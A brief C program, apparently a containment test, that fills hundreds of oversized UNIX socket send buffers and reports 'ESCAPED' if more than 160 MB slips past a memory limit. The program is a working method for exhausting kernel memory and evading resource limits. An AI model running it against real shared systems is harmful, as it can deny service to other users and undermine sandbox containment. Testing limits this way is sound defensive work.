#include "attack.h"

int main(void) {
  static char b[65536];
  long sum = 0;
  for (int i = 0; i < 500; i++) {
    int p[2], big = 1 << 30;
    if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, p)) break;
    setsockopt(p[0], SOL_SOCKET, SO_SNDBUF, &big, sizeof big);
    for (int n; (n = write(p[0], b, sizeof b)) > 0;) sum += n;
  }
  printf("%s %ld MB\n", sum > 160l << 20 ? "ESCAPED" : "bounded", sum >> 20);
}
